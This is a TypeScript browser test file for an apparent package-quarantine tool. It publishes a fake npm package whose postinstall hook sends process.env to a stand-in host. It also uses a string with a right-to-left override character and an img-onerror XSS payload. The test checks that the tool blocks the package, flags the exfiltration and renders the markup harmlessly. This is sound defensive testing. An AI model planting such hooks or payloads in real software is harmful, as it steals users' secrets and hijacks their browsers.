/// <reference lib="dom" />
import axe from 'axe-core'
import { chromium, type Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret, type RunningLazaret } from '../e2e/lazaret.ts'
import { npmTarball, type NpmSpec } from '../registry/build.ts'
import type { NpmRelease } from '../registry/npm.ts'
import { startWorld } from '../registry/registry.ts'
import { setUp } from './people.ts'

const OLD = '2022-01-02T03:04:05.000Z'

/** Long enough that what did not change is folded. */
const LINES = Array.from({ length: 60 }, (_, index) => `exports.n${index} = ${index}`)
const HOSTILE = `const a = '\u202Eevil' // <img src=x onerror="document.title='owned'">\n`

function release(spec: Omit<NpmSpec, 'name'>, changed: string): NpmRelease {
  const files = { 'lib/a.js': `${LINES.with(40, changed).join('\n')}\n`, ...spec.files }
  return { built: npmTarball({ name: 'grower', ...spec, files }), publishedAt: OLD }
}

t.test('the files of a case', { skip: CHROMIUM === undefined ? 'there is no Chromium here' : false }, async (t) => {
  const world = await startWorld()
  world.npm.publish(release({ version: '1.0.0' }, 'exports.changed = 1'))
  const scripts = { postinstall: 'node collect.js' }
  const files = {
    'collect.js': `fetch('https://drop.invalid/', { method: 'POST', body: JSON.stringify(process.env) })\n`,
    'hostile.js': HOSTILE,
    'x.node': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]),
  }
  world.npm.publish(release({ version: '1.1.0', scripts, files }, 'exports.changed = 2'))
  const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
  const started: RunningLazaret[] = []
  t.teardown(async () => {
    await browser.close()
    for (const one of started) await one.stop()
    await world.close()
  })
  const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
  started.push(lazaret)
  t.equal((await fetch(`${lazaret.npmUrl}grower/-/grower-1.0.0.tgz`)).status, 200)
  t.equal((await fetch(`${lazaret.npmUrl}grower/-/grower-1.1.0.tgz`)).status, 403)

  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  page.setDefaultTimeout(15_000)
  page.on('pageerror', (error) => t.fail(`page error: ${error.message}`))
  page.on('console', (message) => message.type() === 'error' && t.fail(`console: ${message.text()}`))
  await setUp(page, lazaret.setupLink)
  await page.getByRole('link', { name: 'grower' }).click()

  await page.getByRole('link', { name: 'collect.js:1' }).first().click()
  t.match(await editor(page), 'JSON.stringify(process.env)', 'a step of the chain leads to its line')
  t.equal(await page.locator('.editor .cm-line.marked').count(), 1)
  t.match(await page.locator('.editor .notes').innerText(), /process\.env.*\(secrets-exfiltration\)/)
  await judge(t, page, 'a file with findings')

  await page.getByRole('searchbox', { name: 'Filter' }).fill('LIB')
  await page.getByRole('link', { name: 'lib/a.js' }).click()
  await page.getByRole('link', { name: 'Changes since 1.0.0', exact: true }).waitFor()
  const changes = await editor(page)
  for (const line of ['exports.changed = 1', 'exports.changed = 2', 'unchanged lines'])
    t.ok(changes.includes(line), `the changes show ${line}`)
  t.notOk(changes.includes('exports.n2 ='), 'lines far from every change are folded')
  await page.getByRole('button', { name: 'Next change' }).click()
  await judge(t, page, 'changes')
  await page.getByRole('link', { name: 'File', exact: true }).click()
  t.match(await editor(page), 'exports.n2 =', 'the whole file')
  await page.getByRole('button', { name: 'Search' }).click()
  await page.locator('.editor input[name=search]').pressSequentially('changed')
  await page.keyboard.press('Enter')
  await page.locator('.editor .cm-searchMatch').first().waitFor()

  await page.getByRole('searchbox', { name: 'Filter' }).fill('')
  await page.getByRole('link', { name: 'hostile.js' }).click()
  const hostile = await editor(page)
  t.match(hostile, 'U+202E', 'what is not seen is drawn')
  t.match(hostile, '<img src=x', 'markup is text')
  t.equal(await page.locator('.editor img[src]').count(), 0)
  t.notMatch(await page.title(), 'owned')
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Download as text' }).click(),
  ])
  t.equal(download.suggestedFilename(), 'hostile.js.txt')

  await page.getByRole('link', { name: 'x.node' }).click()
  t.match(await editor(page), '7f 45 4c 46 00 01', 'bytes in hex')

  await page.setViewportSize({ width: 360, height: 740 })
  await page.getByRole('link', { name: 'lib/a.js' }).click()
  t.match(await editor(page), 'exports.changed = 1', 'on a phone one below the other')
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  t.ok(overflow <= 0, `it fits 360 pixels (${overflow} too many)`)
  await judge(t, page, 'changes at 360 pixels')
  await page.keyboard.press('Escape')
  await page.getByRole('heading', { name: 'Evidence' }).waitFor()
})

/** What the editor shows, once it is there. */
async function editor(page: Page): Promise<string> {
  await page.locator('.editor[data-ready]').waitFor()
  return page
    .locator('.editor .cm-editor')
    .last()
    .evaluate(() => {
      const root = document.querySelector('.editor')?.shadowRoot
      return [...(root?.querySelectorAll<HTMLElement>('.cm-content') ?? [])].map((one) => one.innerText).join('\n')
    })
}

async function judge(t: Test, page: Page, what: string): Promise<void> {
  await page.evaluate(axe.source)
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
    const found = await page.evaluate(async () => {
      const { violations } = await (window as unknown as { axe: typeof axe }).axe.run()
      return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(' | ')}`)
    })
    t.strictSame(found, [], `axe has nothing to say of ${what}, ${colorScheme}`)
  }
}
